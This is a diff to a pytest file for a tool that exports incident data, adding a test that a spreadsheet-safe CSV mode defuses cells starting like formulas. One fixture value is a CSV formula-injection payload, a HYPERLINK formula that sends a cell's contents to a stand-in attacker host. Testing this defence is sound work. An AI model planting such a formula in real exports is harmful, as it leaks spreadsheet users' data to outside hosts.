@@ -4,11 +4,13 @@ the HTML map is self-contained and escapes hostile text."""
 
 from __future__ import annotations
 
+import io
 import json
 import re
 import subprocess
 from datetime import date
 
+import pandas as pd
 import pyogrio
 import pytest
 
@@ -85,6 +87,22 @@ def test_csv_keeps_awkward_text_and_unknowns(tmp_path):
     assert back.loc[0, "summary"] == HOSTILE.loc[0, "summary"]
     assert back["fatalities_min"].isna().tolist() == [False, True]  # unknown stays unknown, never 0
     assert back.geometry.isna().tolist() == [False, True]
+
+
+def test_spreadsheet_safe_csv_defuses_cells_that_start_like_formulas():
+    risky = incidents(row(summary='=HYPERLINK("http://evil.example/?"&A1,"click")', location="+Kamona",
+                          perpetrators="@SUM(1)", victims="-2+3", latitude="14.25", longitude="-5.99"),
+                      row(incident_id="T-2", summary="Killed = 3 (a summary, not a formula)"))
+    exact = pd.read_csv(io.BytesIO(to_csv_bytes(risky)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    safe = pd.read_csv(io.BytesIO(to_csv_bytes(risky, spreadsheet_safe=True)), dtype=str, keep_default_na=False,
+                       encoding="utf-8-sig")
+    assert exact.loc[0, "summary"].startswith("=HYPERLINK")  # default: exactly the text
+    for col in ("summary", "location", "perpetrators", "victims"):
+        assert safe.loc[0, col] == "'" + exact.loc[0, col], col
+    assert safe.loc[1, "summary"] == exact.loc[1, "summary"]  # "=" inside the text is harmless
+    assert safe.loc[0, "longitude"] == exact.loc[0, "longitude"] == "-5.99"  # numbers stay numbers
+    unchanged = [c for c in exact.columns if c not in {"summary", "location", "perpetrators", "victims"}]
+    assert safe[unchanged].equals(exact[unchanged])
 
 
 def test_geojson_is_an_rfc7946_feature_collection(tmp_path, bundled):
